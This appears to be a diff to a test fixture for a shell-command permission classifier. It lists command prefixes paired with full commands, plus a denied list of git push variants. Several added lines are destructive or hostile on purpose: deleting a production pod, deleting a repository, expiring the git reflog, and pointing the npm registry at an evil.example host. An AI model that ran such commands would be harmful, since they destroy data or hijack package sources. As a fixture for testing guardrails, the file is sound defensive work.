@@ -82,6 +82,7 @@ git add|git add -A src/main.py
 git commit|git commit -am 'fix: a; b ../c /d'
 git checkout|git checkout -b topic
 git restore|git restore --staged src/x.py
+gh pr view|gh pr view 12 --comments
 git worktree|git worktree add side -b side
 git stash|git stash push -m 'before'
 git ls-remote|git ls-remote --heads origin
@@ -159,6 +160,19 @@ docker run|docker run -itv /:/host x
 docker run|docker run --network=host x
 docker|docker system prune -af
 docker compose down|docker compose down -v
+docker compose|docker compose -f prod.yml --profile all down -v
+docker|docker --log-level debug compose -p down down --rmi all
+docker|docker --tlscert x --debug volume rm data
+docker-compose|docker-compose -f prod.yml rm -fsv
+kubectl|kubectl --request-timeout 5s -n prod delete pod x
+gh|gh --new-option value repo delete x/y
+npm|npm --loglevel silent publish
+npm|npm -ws --workspace a c set registry https://evil.example
+git restore|git restore .
+git restore|git restore :/
+git reflog|git reflog expire --all
+git submodule|git submodule foreach ls
+gh pr review|gh pr review --approve 1
 docker|docker -H tcp://evil.example ps
 kubectl get|kubectl get --token=x pods
 kubectl get|kubectl get secrets -o yaml
@@ -264,6 +278,7 @@ DENIED = [
     "/usr/bin/git push",
     "git -C x push",
     "git -c a=b --no-pager push",
+    "git --new-option value push",
     "ls && git push",
     "x=$(git push)",
     "sudo git push",
